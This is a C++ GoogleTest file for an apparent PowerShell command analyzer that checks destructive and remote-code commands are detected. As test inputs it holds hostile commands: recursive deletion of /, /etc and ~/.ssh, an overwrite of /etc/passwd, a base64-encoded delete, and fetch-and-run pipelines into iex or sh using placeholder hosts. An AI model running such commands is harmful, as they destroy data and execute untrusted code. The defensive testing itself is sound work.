#include <gtest/gtest.h>

#include "shell/test_util.h"

namespace warden::shell {
namespace {

using namespace testing;

TEST(PowerShellCommandsTest, CmdletsAndAliasesHaveFileEffects) {
  Facts f = Analyze("pwsh -c 'Remove-Item -Recurse -Force /etc'");
  const FileFact* del = FindFile(f, FileOp::kDelete, "/etc");
  ASSERT_NE(del, nullptr) << Dump(f);
  EXPECT_TRUE(del->recursive);
  f = Analyze("powershell -Command \"ri -r $HOME/.ssh\"");
  EXPECT_NE(FindFile(f, FileOp::kDelete, "/home/dev/.ssh"), nullptr) << Dump(f);
  f = Analyze("pwsh -c 'Set-Content -Path ~/.bashrc -Value x'");
  EXPECT_NE(FindFile(f, FileOp::kWrite, "/home/dev/.bashrc"), nullptr) << Dump(f);
  f = Analyze("pwsh -c 'Copy-Item a.txt /etc/passwd'");
  EXPECT_NE(FindFile(f, FileOp::kWrite, "/etc/passwd"), nullptr) << Dump(f);
}

TEST(PowerShellCommandsTest, EncodedCommandIsDecodedAndRemoteCode) {
  // "Remove-Item -Recurse /" in UTF-16LE, base64.
  Facts f = Analyze("pwsh -EncodedCommand UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALQBSAGUAYwB1AHIAcwBlACAALwA=");
  EXPECT_NE(FindFile(f, FileOp::kDelete, "/"), nullptr) << Dump(f);
  EXPECT_TRUE(HasSignal(f, kSignalRce));
}

TEST(PowerShellCommandsTest, NativeProgramsAndCallOperatorRun) {
  for (std::string_view cmd : {"pwsh -c 'bash -c \"rm -rf /\"'", "pwsh -c '& \"/bin/rm\" -rf /'",
                               "pwsh -c 'Start-Process rm -ArgumentList \"-rf /\"'", "pwsh -c 'iex \"rm -Recurse /\"'"}) {
    Facts f = Analyze(cmd);
    EXPECT_NE(FindFile(f, FileOp::kDelete, "/"), nullptr) << cmd << ": " << Dump(f);
  }
}

TEST(PowerShellCommandsTest, FetchedCodeIntoIexOrAShellIsRemoteCode) {
  for (std::string_view cmd : {"pwsh -c 'iwr https://x.example/a.ps1 | iex'", "pwsh -c 'curl https://x.example | sh'",
                               "pwsh -c 'iex (New-Object Net.WebClient).DownloadString(\"https://x\")'"}) {
    Facts f = Analyze(cmd);
    EXPECT_TRUE(HasSignal(f, kSignalRce) || HasSignal(f, kSignalDynamicScript)) << cmd << ": " << Dump(f);
  }
}

TEST(PowerShellCommandsTest, OrdinaryScriptsHaveNoEffects) {
  Facts f = Analyze("pwsh -NoProfile -c 'Get-ChildItem | Select-Object Name; Write-Host done'");
  EXPECT_TRUE(f.files.empty()) << Dump(f);
  EXPECT_FALSE(HasSignal(f, kSignalRce));
}

}  // namespace
}  // namespace warden::shell
